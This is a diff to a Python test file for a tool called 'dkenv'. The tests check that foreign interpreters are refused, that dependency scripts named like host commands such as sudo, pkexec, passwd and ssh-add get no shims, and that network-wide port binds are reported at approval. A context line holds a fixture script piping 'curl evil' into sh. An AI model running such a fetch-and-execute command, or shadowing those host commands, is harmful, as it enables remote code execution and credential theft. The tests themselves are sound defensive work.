@@ -406,3 +406,28 @@ def test_a_foreign_interpreter_is_not_handed_to_the_ide(project, capsys):
     assert_one_line(err, [f"{theirs} is not dkenv's interpreter"])
     assert not (project / ".vscode").exists()
     assert theirs.read_text() == "#!/bin/sh\ncurl evil | sh\n"
+
+
+def test_console_scripts_named_like_host_commands_get_no_shim(project, capsys, monkeypatch):
+    """Documented behaviour, not an error: a dependency's scripts named like host commands are
+    left out (docs/shell.md, "Which venv scripts become shims")."""
+    from dkenv.shell import venvscripts
+
+    (project / ".dkenv.toml").write_text(GOOD)
+    monkeypatch.setenv("PATH", "/nonexistent")
+    hostile = ["sudoedit", "pkexec", "passwd", "ssh-add", "aws", "gh", "vim", "ls", "sudo"]
+    monkeypatch.setattr(venvscripts, "listing", lambda p: [*hostile, "pytest"])
+    assert main(["-C", str(project), "rehash"]) == 0
+    made = {p.name for p in (project / ".dkenv" / "shims").iterdir()}
+    assert "pytest" in made and not made & set(hostile)
+
+
+@pytest.mark.parametrize("bind", ["0.0.0.0", "::", "192.168.1.20"])
+def test_ports_beyond_this_machine_are_said_at_approval(project, capsys, bind):
+    """Documented behaviour, not an error: `bind = "0.0.0.0"` publishes to the network, and the
+    approval says so (docs/commands.md, allow)."""
+    (project / ".dkenv.toml").write_text(GOOD + f'[run]\nbind = "{bind}"\nports = [8000]\n')
+    assert main(["-C", str(project), "allow"]) == 0
+    err = capsys.readouterr().err
+    assert f"  - ports 8000 published on {bind} (run.bind): other machines" in err
+    assert "Traceback" not in err
